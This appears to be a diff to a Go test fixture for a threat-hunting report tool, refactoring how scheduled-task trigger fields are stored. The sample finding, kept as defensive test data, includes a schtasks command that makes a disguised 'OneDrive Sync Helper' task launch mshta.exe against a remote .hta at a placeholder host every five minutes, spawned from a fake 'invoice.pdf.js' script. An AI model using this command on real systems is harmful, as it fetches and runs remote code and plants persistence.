@@ -41,7 +41,7 @@ func sample() report.Data {
 			{ID: "rare-task-execution", Name: "Rare process started by the Task Scheduler", Rows: 37, Query: "DeviceProcessEvents\n| take 1"}},
 		Techniques: []string{"T1053.005", "T1218.005"}, Devices: []string{"wks-017.corp.example"}, Accounts: []string{`corp\m.ruiz`},
 		Task: &finding.Task{Name: `\OneDrive Sync Helper`, Actions: []finding.TaskAction{{Kind: "Exec", Command: "mshta.exe", Arguments: "https://cdn.updates.example/x.hta"}},
-			Principal: `corp\m.ruiz`, RunLevel: "HighestAvailable", Triggers: "TimeTrigger every PT5M", Schedule: "every 5 minutes", Created: at("09:12:41.1234567"), CreatedBy: `corp\m.ruiz`,
+			Principal: `corp\m.ruiz`, RunLevel: "HighestAvailable", Starting: finding.Starting{Triggers: "TimeTrigger every PT5M", Schedule: "every 5 minutes"}, Created: at("09:12:41.1234567"), CreatedBy: `corp\m.ruiz`,
 			Definition: "<Task version=\"1.2\">\n  <Actions><Exec><Command>mshta.exe</Command></Exec></Actions>\n</Task>"},
 		Processes: []finding.Process{
 			{Role: "creator", FileName: "schtasks.exe", CommandLine: `schtasks.exe /create /tn "OneDrive Sync Helper" /tr "mshta.exe https://cdn.updates.example/x.hta" /sc minute /mo 5`, Parent: `wscript.exe "C:\Users\m.ruiz\Downloads\invoice.pdf.js"`},
@@ -89,7 +89,7 @@ func sample() report.Data {
 		Edges: []finding.Edge{{Chapter: finding.Origin, From: 0, To: 1, Verb: bad, Why: bad, Confidence: finding.Certain}, {Chapter: finding.Origin, From: 1, To: 0, Verb: "started", Why: bad},
 			{Chapter: finding.End, From: 0, To: 2, Verb: "deleted", Why: bad, Proof: []finding.Source{{Table: bad, Record: bad}}}},
 		Effects:     []finding.Effect{{Process: 0, Kind: "file", What: bad}},
-		Definitions: []finding.Definition{{How: bad, By: bad, Triggers: bad, Changes: []string{bad}}},
+		Definitions: []finding.Definition{{How: bad, By: bad, Starting: finding.Starting{Triggers: bad, Schedule: bad}, Changes: []string{bad}}},
 		Gaps:        []finding.Gap{{Text: bad, Hint: bad}},
 	}
 	quiet := finding.Finding{ID: "aa", Title: `Task \GoogleUpdateTaskMachineUA`, Hunts: []finding.Hunt{{ID: "rare-task-creation"}}, Devices: []string{"wks-001"},
